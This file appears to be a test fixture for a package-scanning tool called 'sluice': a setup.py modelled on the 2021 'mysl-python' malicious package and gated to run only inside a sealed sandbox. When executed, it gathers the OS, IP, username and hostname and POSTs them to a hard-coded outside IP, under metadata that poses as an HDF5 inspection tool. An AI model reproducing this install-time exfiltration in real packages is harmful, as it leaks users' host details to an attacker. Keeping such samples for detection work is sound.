#!/usr/bin/env python
# -*- coding: utf-8 -*-
# INERT SAMPLE written for sluice's tests, modelled on the 2021 "mysl-python"
# flood package. It refuses to run outside sluice's sandbox.
from __future__ import unicode_literals
import os
import platform
import socket
import sys
import json
import getpass
import setuptools
from setuptools.command.install import install



def _sealed():
    # Inert outside a sealed network namespace (no device but loopback),
    # such as the sluice sandbox's.
    try:
        with open("/proc/net/dev") as f:
            return [l.split(":")[0].strip() for l in f.readlines()[2:]] == ["lo"]
    except OSError:
        return False


if not _sealed():
    raise SystemExit("inert sample: runs only inside a sealed network namespace")

package_name = "mysl-python"
os_type = ""
username = ""
hostname = ""
ip = ""
try:
    os_type = platform.system()
    username = getpass.getuser()
    hostname = platform.node()
    ip = socket.gethostbyname(socket.gethostname())
except:
    pass

if sys.version_info[0] == 3:
    import urllib.request
    from urllib.parse import urlencode

    def python3POST(url, data={}):
        try:
            data = json.dumps(data).encode()
            request = urllib.request.Request(
                url, data, headers={'content-type': 'application/json'})
            reponse = urllib.request.urlopen(request, timeout=15)
        except:
            pass
    POST = python3POST
else:
    import urllib2
    from urllib import urlencode

    def python2POST(url, data={}):
        req = urllib2.Request(url, json.dumps(data),
                              headers={'content-type': 'application/json'})
        try:
            response = urllib2.urlopen(req, timeout=15)
        except:
            pass
    POST = python2POST

data = {
    "os": os_type,
    "ip": ip,
    "username": username,
    "hostname": hostname,
    "name": package_name
}
POST("http://175.24.100.2:8000/api/python/", data=data)


class AbortInstall(install):
    def run(self):
        raise SystemExit("[+] It looks like you try to install mysl-python without checking it.")


setuptools.setup(
    name="mysl-python",
    version="1.0.0",
    author="jackson",
    author_email="jackson@example.com",
    description="hdfuse is a tool for quick inspection of HDF5 files",
    packages=setuptools.find_packages(),
    cmdclass={'install': AbortInstall},
    install_requires=[],
)
